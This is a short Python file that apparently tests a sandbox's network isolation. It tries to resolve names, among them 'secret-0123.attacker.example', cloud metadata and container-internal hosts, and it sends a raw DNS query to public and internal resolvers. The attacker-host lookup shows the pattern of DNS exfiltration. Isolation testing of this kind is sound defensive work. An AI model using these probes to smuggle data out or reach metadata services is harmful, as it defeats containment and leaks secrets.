"""Resolves names, by the library and by asking well-known resolvers itself.

Fooled: a name is resolved, or a packet can be sent; either carries data out.
"""

import socket

from attempts import none_of

QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"


def resolved(name):
    try:
        found = {address[4][0] for address in socket.getaddrinfo(name, 80)}
    except socket.gaierror:
        return None
    return found


def asked(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.connect((address, 53))
        one.send(QUESTION)
        return one.recv(512)


NAMES = (
    "example.com",
    "secret-0123.attacker.example",
    "host.docker.internal",
    "metadata.google.internal",
    "kubernetes",
)
none_of(
    [
        *((name, lambda name=name: resolved(name)) for name in NAMES),
        *(
            (address, lambda address=address: asked(address))
            for address in ("8.8.8.8", "127.0.0.11", "127.0.0.53", "172.17.0.1")
        ),
        ("2001:4860:4860::8888", lambda: asked("2001:4860:4860::8888", socket.AF_INET6)),
    ]
)
